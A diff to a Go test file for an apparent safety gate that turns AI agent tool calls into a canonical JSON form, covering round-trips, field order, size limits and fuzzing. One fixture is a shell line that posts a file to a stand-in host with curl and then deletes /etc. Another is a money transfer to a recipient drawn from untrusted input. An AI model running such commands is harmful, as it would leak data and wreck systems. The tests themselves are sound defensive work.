@@ -17,13 +17,15 @@ func canonicalSamples() []Context {
 	state := State{Cwd: "/w", Roots: []string{"/w", "/v"}, UID: -1, GID: 1000,
 		History: []Record{{effect.Write, effect.OpCreate, "/w/a", 12}, {effect.Network, effect.OpSend, "h.example", -1}},
 		Flow:    Flow{SensitiveRead: true, Derived: []string{"/w/b"}, Unvetted: []string{"/w/c.sh"}}}
+	heard := state
+	heard.Sources = told{untrusted: []string{"GB29"}}
 	return []Context{
 		{},
 		ShellContext("curl -d @x https://h.example:8443/a | tee out; rm -rf /etc", state),
 		ShellContext("printf 'a\\tb' > \"q\\\"\x01uote\"", State{}),
-		NewContext(Call{Tool: "mcp__Files__Write_File", Args: []byte(`{"path":"a\"\\\nb","content":"é\u2028\u0001"}`)}, state),
-		NewContext(Call{Tool: "send_money", Args: []byte(`{"recipient":"GB29","amount":1e3}`), Untrusted: []string{"GB29"}}, state),
-		NewContext(Call{Tool: "no such tool", Args: []byte(`[1,`)}, State{Cwd: "/\xff\xfe"}),
+		NewContext(Request{Tool: "mcp__Files__Write_File", Args: []byte(`{"path":"a\"\\\nb","content":"é\u2028\u0001"}`)}, state),
+		NewContext(Request{Tool: "send_money", Args: []byte(`{"recipient":"GB29","amount":1e3}`)}, heard),
+		NewContext(Request{Tool: "no such tool", Args: []byte(`[1,`)}, State{Cwd: "/\xff\xfe"}),
 		{Tool: "x", Args: []Arg{{Path: "p", Value: "\x00\x1f\x7f\xc3(", Origin: OriginUntrusted, Source: "s", Form: "f~", Role: "recipient"}}},
 	}
 }
@@ -50,7 +52,7 @@ func TestCanonicalRoundTrip(t *testing.T) {
 // TestCanonicalIsWhatGatesRead holds the form to the order and names that the
 // comment in canonical.go gives.
 func TestCanonicalIsWhatGatesRead(t *testing.T) {
-	c := NewContext(Call{Tool: "functions.Bash", Args: []byte(`{"command":"ls"}`)}, State{Cwd: "/w", UID: 5, GID: 6})
+	c := NewContext(Request{Tool: "functions.Bash", Args: []byte(`{"command":"ls"}`)}, State{Cwd: "/w", UID: 5, GID: 6})
 	want := `{"tool":"bash","family":"shell","verb":"execute","resource":"process","high":true,"tier":"local-reversible","cwd":"/w","roots":["/w"],"uid":5,"gid":6,` +
 		`"types":["spawn"],"args":[{"path":"command","value":"ls","origin":"agent","source":"","form":"","role":"command","size":2}],"effects":[`
 	if got := string(c.AppendCanonical(nil)); !strings.HasPrefix(got, want) {
@@ -106,7 +108,7 @@ func canonicalBytes(i int) []byte {
 func TestLongKeysAreNotCopiedForEachLeaf(t *testing.T) {
 	key := strings.Repeat("k", 1<<20)
 	args := `{"` + key + `":[` + strings.TrimSuffix(strings.Repeat("1,", 999), ",") + `]}`
-	c := NewContext(Call{Tool: "send_email", Args: []byte(args)}, State{})
+	c := NewContext(Request{Tool: "send_email", Args: []byte(args)}, State{})
 	if n := len(c.AppendCanonical(nil)); n > 1<<20 {
 		t.Errorf("canonical form of %d bytes", n)
 	}
@@ -141,7 +143,7 @@ func FuzzCanonical(f *testing.F) {
 	f.Add("mcp__a__b.c", `{"path":"~/x","content":"\u0000"}`, "/w\xff")
 	f.Add("İ.Ⱥ /x", `"text"`, "")
 	f.Fuzz(func(t *testing.T, tool, args, cwd string) {
-		c := NewContext(Call{Tool: tool, Args: []byte(args)}, State{Cwd: cwd})
+		c := NewContext(Request{Tool: tool, Args: []byte(args)}, State{Cwd: cwd})
 		data := c.AppendCanonical(nil)
 		if !json.Valid(data) {
 			t.Fatalf("not JSON: %s", data)
